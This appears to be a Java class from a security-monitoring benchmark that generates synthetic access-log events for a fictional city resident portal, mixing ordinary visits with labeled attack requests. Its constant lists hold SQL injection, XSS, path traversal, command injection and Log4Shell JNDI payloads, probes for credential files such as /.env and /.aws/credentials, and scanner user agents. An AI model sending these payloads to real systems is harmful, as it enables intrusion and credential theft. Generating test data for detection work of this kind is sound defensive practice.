package ch.meinkonto.soc.bench.lane;

import java.util.List;
import java.util.Map;

/** The access log of the portal: residents at work and, now and then, someone who tries the doors. */
final class PortalLog implements LineWriter {
    private static final String HOST = "mein-konto.stadt.example";
    private static final List<String> PATHS = List.of("/", "/messages", "/cases", "/documents", "/payments",
            "/parking-permit", "/parking-permit/apply", "/residence-confirmation", "/debt-register-extract",
            "/moving", "/moving/dwelling", "/tax/instalments", "/tax/statement", "/waste/calendar", "/dog-registration",
            "/school-registration", "/childcare/subsidy", "/library/card", "/account", "/account/security",
            "/api/v1/cases", "/api/v1/payments", "/api/v1/documents", "/assets/app.css", "/assets/app.js",
            "/assets/logo.svg", "/assets/fonts/text.woff2", "/event-stream");
    private static final List<String> PARAMETERS = List.of("page", "sort", "lang", "case", "step", "year", "filter",
            "from", "until", "document", "q", "district");
    private static final List<String> WORDS = List.of("de", "fr", "2026", "date,desc", "open", "summary", "seefeld",
            "wiedikon", "altstetten", "wohnsitz", "parkkarte", "hund", "steuern", "rechnung", "umzug",
            "best%C3%A4tigung",
            "kinder+betreuung", "sperrgut", "k%C3%BCndigung", "formular");
    private static final List<String> SYSTEMS = List.of("Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10_15_7",
            "X11; Linux x86_64", "iPhone; CPU iPhone OS 18_5 like Mac OS X", "Linux; Android 15; Pixel 9",
            "iPad; CPU OS 18_4 like Mac OS X", "Linux; Android 14; SM-S921B");
    private static final List<Carrier> CARRIERS = List.of(Carrier.QUERY, Carrier.QUERY, Carrier.PATH, Carrier.AGENT);
    private static final List<String> METHODS = List.of("GET", "GET", "GET", "GET", "GET", "GET", "POST", "POST",
            "HEAD",
            "PUT");
    private static final List<Integer> ANSWERS = List.of(200, 200, 200, 200, 200, 200, 304, 302, 204, 404, 400, 403,
            500);
    private static final List<String> ATTACK_QUERIES = List.of(
            "id=1'%20UNION%20SELECT%20login,secret%20FROM%20person--",
            "case=1%20UNION%20ALL%20SELECT%20NULL,@@version--",
            "sort=id%20order%20by%209--", "filter=x'%20or%201=1#", "q=1%20and%20group_concat(table_name)",
            "case=7%27%20OR%201=1--%20", "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "document=../../../../etc/passwd", "file=..%2f..%2f..%2fetc%2fshadow",
            "q=${jndi:ldap://198.51.100.23:1389/a}", "name={{7*7}}", "step=1;cat%20/etc/hosts",
            "q=%3Cimg%20src=x%20onerror=alert(1)%3E", "year=2026%20AND%20SLEEP(5)",
            "sort=(select*from(select(sleep(9)))a)",
            "lang=php://filter/convert.base64-encode/resource=index", "filter=admin'--%20",
            "q=1%20waitfor%20delay%20'0:0:5'");
    private static final List<String> ATTACK_PATHS = List.of("/.git/config", "/.env", "/wp-login.php",
            "/actuator/heapdump",
            "/cgi-bin/../../../../bin/sh", "/phpmyadmin/index.php", "/%2e%2e/%2e%2e/windows/win.ini", "/server-status",
            "/backup.zip", "/console/login.jsp", "/api/v1/../../admin", "/.aws/credentials");
    private static final List<String> SCANNERS = List.of("sqlmap/1.9.4#stable (https://sqlmap.org)",
            "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)", "Nmap Scripting Engine", "gobuster/3.6",
            "nuclei - open-source",
            "python-requests/2.32.3", "masscan/1.3", "WPScan v3.8.28", "Wfuzz/3.1.0", "DirBuster-1.0-RC1");

    /** Which part of a request carries an attack. */
    private enum Carrier {
        NONE,
        QUERY,
        PATH,
        AGENT
    }

    @Override
    public void write(int number, boolean attack, Choice choice, Map<String, Object> event) {
        Carrier carrier = attack ? choice.of(CARRIERS) : Carrier.NONE;
        String stem = path(carrier, choice);
        String query = query(carrier, choice);
        String target = query.isEmpty() ? stem : stem + "?" + query;
        String agent = carrier == Carrier.AGENT ? choice.of(SCANNERS) : browser(choice);
        event.put("@timestamp", Moments.of(number).toString());
        event.put("c-ip", address(choice));
        event.put("cs-method", attack && choice.chance(90) ? "GET" : choice.of(METHODS));
        event.put("cs-uri-stem", stem);
        event.put("cs-uri-query", target);
        event.put("c-uri", "https://" + HOST + target);
        event.put("cs-host", HOST);
        event.put("cs-username", choice.chance(70) ? "r-" + choice.hex(5) : "-");
        event.put("cs-user-agent", agent);
        event.put("cs-referer", choice.chance(80) ? "https://" + HOST + choice.oftenFirst(PATHS) : "-");
        event.put("sc-status", choice.oftenFirst(ANSWERS));
        event.put("sc-bytes", choice.between(180, 90_000));
        event.put("cs-bytes", choice.between(300, 2_400));
        event.put("time-taken", choice.between(1, 400));
        event.put("session", choice.hex(4));
        event.put("trace.id", choice.hex(16));
    }

    private static String path(Carrier carrier, Choice choice) {
        if (carrier == Carrier.PATH) {
            return choice.of(ATTACK_PATHS);
        }
        String path = choice.oftenFirst(PATHS);
        return choice.chance(35) && !path.endsWith("/") && path.indexOf('.') < 0 ? path + "/" + choice.hex(4) : path;
    }

    private static String query(Carrier carrier, Choice choice) {
        if (carrier == Carrier.QUERY) {
            return choice.of(ATTACK_QUERIES);
        }
        StringBuilder query = new StringBuilder();
        for (int left = choice.between(0, 3); left > 0; left--) {
            query.append(query.isEmpty() ? "" : "&").append(choice.of(PARAMETERS)).append('=')
                    .append(choice.chance(60) ? choice.of(WORDS) : String.valueOf(choice.between(1, 99_999)));
        }
        return query.toString();
    }

    private static String browser(Choice choice) {
        int version = choice.between(118, 141);
        String system = choice.oftenFirst(SYSTEMS);
        if (choice.chance(20)) {
            return "Mozilla/5.0 (" + system + "; rv:" + version + ".0) Gecko/20100101 Firefox/" + version + ".0";
        }
        return "Mozilla/5.0 (" + system + ") AppleWebKit/537.36 (KHTML, like Gecko) Chrome/" + version + ".0."
                + choice.between(5_000, 7_500) + "." + choice.between(1, 199) + " Safari/537.36";
    }

    private static String address(Choice choice) {
        return choice.chance(80)
                ? choice.between(11, 223) + "." + choice.between(0, 255) + "." + choice.between(0, 255) + "."
                        + choice.between(1, 254)
                : "2001:db8:" + choice.hex(2) + "::" + choice.hex(2);
    }
}
